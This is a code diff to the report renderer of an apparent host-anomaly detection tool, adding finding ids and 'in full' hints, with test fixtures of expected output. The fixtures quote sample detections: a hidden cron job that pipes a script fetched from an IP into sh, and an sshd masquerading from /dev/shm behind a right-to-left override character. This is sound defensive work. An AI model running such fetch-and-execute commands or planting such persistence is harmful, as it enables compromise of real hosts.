@@ -24,6 +24,8 @@ const CAMPAIGNS_SHOWN: usize = 3;
 const CAUSES_SHOWN: usize = 6;
 /// Campaigns below this score are counted only.
 const WEAK_CAMPAIGN: f64 = 20.0;
+/// How to see what is cut and what is counted only.
+const IN_FULL: &str = "in full: diffy analyze --host HOST, or --finding ID for one finding";
 /// Where the text of a host, of a finding and below it begins.
 const FINDING: usize = 4;
 const DETAIL: usize = 10;
@@ -39,7 +41,7 @@ pub(super) fn render(analysis: &Analysis, options: &RenderOptions, out: &mut dyn
     super::suppressed::render(&mut page, &analysis.suppressed)
 }
 
-fn head(page: &mut Page<'_>, analysis: &Analysis) -> Result<()> {
+pub(super) fn head(page: &mut Page<'_>, analysis: &Analysis) -> Result<()> {
     let collected = analysis.collected_at.format("%Y-%m-%d %H:%M UTC");
     page.line(
         0,
@@ -123,7 +125,9 @@ fn suspects(page: &mut Page<'_>, analysis: &Analysis, top: usize) -> Result<()> 
         page.blank()?;
         suspect(page, host, top)?;
     }
-    others(page, suspects.get(top..).unwrap_or_default())
+    others(page, suspects.get(top..).unwrap_or_default())?;
+    page.blank()?;
+    page.line(0, &[piece(Tone::Dim, IN_FULL)])
 }
 
 fn suspect(page: &mut Page<'_>, host: &HostResult, top: usize) -> Result<()> {
@@ -139,7 +143,10 @@ fn suspect(page: &mut Page<'_>, host: &HostResult, top: usize) -> Result<()> {
     }
     match host.findings.len().saturating_sub(top) {
         0 => Ok(()),
-        more => page.line(FINDING, &[piece(Tone::Dim, format!("+ {}", count(more as u64, "more finding")))]),
+        more => {
+            let more = count(more as u64, "more finding");
+            page.line(FINDING, &[piece(Tone::Dim, format!("+ {more}: --host {}", host.host))])
+        }
     }
 }
 
@@ -160,7 +167,7 @@ fn others(page: &mut Page<'_>, hosts: &[&HostResult]) -> Result<()> {
     Ok(())
 }
 
-fn host_pieces(host: &HostResult) -> Vec<Piece> {
+pub(super) fn host_pieces(host: &HostResult) -> Vec<Piece> {
     let tone = if host.verdict == Verdict::Outlier { Tone::Red } else { Tone::Yellow };
     vec![
         piece(Tone::Dim, format!("{:>3} ", host.rank)),
@@ -170,16 +177,7 @@ fn host_pieces(host: &HostResult) -> Vec<Piece> {
 }
 
 fn show(page: &mut Page<'_>, finding: &Finding) -> Result<()> {
-    page.line(
-        FINDING,
-        &[
-            piece(Tone::Bold, format!("{:>5.1} ", finding.score)),
-            piece(Tone::Plain, format!("{:<8} ", finding.kind)),
-            piece(Tone::Cyan, &finding.table),
-            piece(Tone::Plain, format!("  {}", prevalence(finding))),
-            piece(Tone::Dim, format!("  {}", finding.attack.join(" "))),
-        ],
-    )?;
+    title(page, finding)?;
     page.sentence(DETAIL, Tone::Plain, &finding.reason)?;
     if !finding.row.is_empty() {
         values(page, &finding.row, &marked(finding))?;
@@ -192,6 +190,26 @@ fn show(page: &mut Page<'_>, finding: &Finding) -> Result<()> {
         Some(nearest) => show_nearest(page, finding, nearest),
         None => Ok(()),
     }
+}
+
+/// The first line of a finding; its id stands below where it would be cut.
+fn title(page: &mut Page<'_>, finding: &Finding) -> Result<()> {
+    let mut pieces = vec![
+        piece(Tone::Bold, format!("{:>5.1} ", finding.score)),
+        piece(Tone::Plain, format!("{:<8} ", finding.kind)),
+        piece(Tone::Cyan, &finding.table),
+    ];
+    let said = [(Tone::Plain, prevalence(finding)), (Tone::Dim, finding.attack.join(" "))];
+    for (tone, said) in said.into_iter().filter(|(_, said)| !said.is_empty()) {
+        pieces.push(piece(tone, format!("  {said}")));
+    }
+    let id = [piece(Tone::Dim, "  finding "), piece(Tone::Dim, &finding.id)];
+    let together = [&pieces[..], &id].concat();
+    if page.fits(FINDING, &together) {
+        return page.line(FINDING, &together);
+    }
+    page.line(FINDING, &pieces)?;
+    page.line(DETAIL, &[piece(Tone::Dim, "finding "), piece(Tone::Dim, &finding.id)])
 }
 
 /// `1 of 58 hosts`, and since when where that is known.
@@ -354,10 +372,8 @@ fn weaker(page: &mut Page<'_>, quiet: &[&HostResult]) -> Result<()> {
     if found.is_empty() {
         return Ok(());
     }
-    let label = format!(
-        "with weaker findings on {} of them, in full with --format json; the strongest:",
-        found.len()
-    );
+    let label =
+        format!("with weaker findings on {} of them, in full with --host; the strongest:", found.len());
     page.line(2, &[piece(Tone::Dim, label)])?;
     for (host, finding) in found.iter().take(WEAKER_SHOWN) {
         let place = format!("{} {} {}: ", host.host, finding.kind, finding.table);
@@ -391,7 +407,7 @@ fn names(page: &mut Page<'_>, indent: usize, names: impl Iterator<Item = String>
     page.flow(indent, groups, NAME_LINES, &|more| format!("+ {more} more"))
 }
 
-fn hosts(number: u64) -> String {
+pub(super) fn hosts(number: u64) -> String {
     count(number, "host")
 }
 
@@ -399,7 +415,7 @@ fn has(number: u64) -> String {
     format!("{} {}", hosts(number), if number == 1 { "has" } else { "have" })
 }
 
-fn count(number: u64, thing: &str) -> String {
+pub(super) fn count(number: u64, thing: &str) -> String {
     format!("{number} {thing}{}", if number == 1 { "" } else { "s" })
 }
 
@@ -496,22 +512,23 @@ pub(super) mod tests {
 
           1 i-0a1b2c3d4e5f60718  outlier 93.1  answered 27 of 28 tables
              31.0 new      crontab  1 of 58 hosts, first seen 2025-12-06  T1053.003
+                  finding f1
                   Only this host runs this command from cron; it fetches a script from
                   the network and runs it.
                   command="curl -s http://198.51.100.7/x.sh | sh"
                   path=/etc/cron.d/.sync  minute=*/5  hour=*  day_of_month=*  month=*
                   day_of_week=*
-             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554
+             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554  finding f2
                   All other hosts run sshd from /usr/sbin/sshd.
                   name=sshd
                   path=/dev/shm/\u{202e}dhss/a-rather-l…-directory/with/another/one/sshd
                   cmdline="sshd: [listener]"  uid=0
                   57 hosts have instead:  path=/usr/sbin/sshd
-              6.5 coverage kernel_modules
+              6.5 coverage kernel_modules  finding f3
                   57 hosts answered for kernel_modules, this one timed out.
 
           2 i-0b1b2c3d4e5f60719  review 24.0
-             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554
+             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554  finding f2
                   All other hosts run sshd from /usr/sbin/sshd.
                   name=sshd
                   path=/dev/shm/\u{202e}dhss/a-rather-l…-directory/with/another/one/sshd
@@ -519,8 +536,10 @@ pub(super) mod tests {
                   57 hosts have instead:  path=/usr/sbin/sshd
 
           3 i-0c1b2c3d4e5f60720  review 6.5
-              6.5 coverage kernel_modules
+              6.5 coverage kernel_modules  finding f3
                   57 hosts answered for kernel_modules, this one timed out.
+
+        in full: diffy analyze --host HOST, or --finding ID for one finding
 
         1 campaign: rows of several tables that stand on the same few hosts
 
@@ -554,28 +573,30 @@ pub(super) mod tests {
         3 hosts need a look: 1 outlier, 2 to review
 
           1 i-0a1b2c3d4e5f60718  outlier 93.1  answered 27 of 28 tables
-             31.0 new      crontab  1 of 58 hosts, first seen 2025-12-06  T1053.003
+             31.0 new      crontab  1 of 58 hosts, first seen 2025-12-06  T1053.003  finding f1
                   Only this host runs this command from cron; it fetches a script from the network and runs it.
                   command="curl -s http://198.51.100.7/x.sh | sh"  path=/etc/cron.d/.sync  minute=*/5  hour=*  day_of_month=*
                   month=*  day_of_week=*
-             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554
+             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554  finding f2
                   All other hosts run sshd from /usr/sbin/sshd.
                   name=sshd  path=/dev/shm/\u{202e}dhss/a-rather-long-directory/with/another/one/sshd
                   cmdline="sshd: [listener]"  uid=0
                   57 hosts have instead:  path=/usr/sbin/sshd
-              6.5 coverage kernel_modules
+              6.5 coverage kernel_modules  finding f3
                   57 hosts answered for kernel_modules, this one timed out.
 
           2 i-0b1b2c3d4e5f60719  review 24.0
-             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554
+             24.0 variant  processes  2 of 58 hosts  T1036.005 T1554  finding f2
                   All other hosts run sshd from /usr/sbin/sshd.
                   name=sshd  path=/dev/shm/\u{202e}dhss/a-rather-long-directory/with/another/one/sshd
                   cmdline="sshd: [listener]"  uid=0
                   57 hosts have instead:  path=/usr/sbin/sshd
 
           3 i-0c1b2c3d4e5f60720  review 6.5
-              6.5 coverage kernel_modules
+              6.5 coverage kernel_modules  finding f3
                   57 hosts answered for kernel_modules, this one timed out.
+
+        in full: diffy analyze --host HOST, or --finding ID for one finding
 
         1 campaign: rows of several tables that stand on the same few hosts
 
@@ -609,15 +630,18 @@ pub(super) mod tests {
 
           1 i-0a1b2c3d4e5f60718  outlier 93.1  answered 27 of 28 tables
              31.0 new      crontab  1 of 58 hosts, first seen 2025-12-06  T1053.003
+                  finding f1
                   Only this host runs this command from cron; it fetches a script from
                   the network and runs it.
                   command="curl -s http://198.51.100.7/x.sh | sh"
                   path=/etc/cron.d/.sync  minute=*/5  hour=*  day_of_month=*  month=*
                   day_of_week=*
-            + 2 more findings
+            + 2 more findings: --host i-0a1b2c3d4e5f60718
 
           2 i-0b1b2c3d4e5f60719  review 24.0  processes  All other hosts run sshd from…
           3 i-0c1b2c3d4e5f60720  review 6.5  kernel_modules  57 hosts answered for kern…
+
+        in full: diffy analyze --host HOST, or --finding ID for one finding
 
         1 campaign: rows of several tables that stand on the same few hosts
 
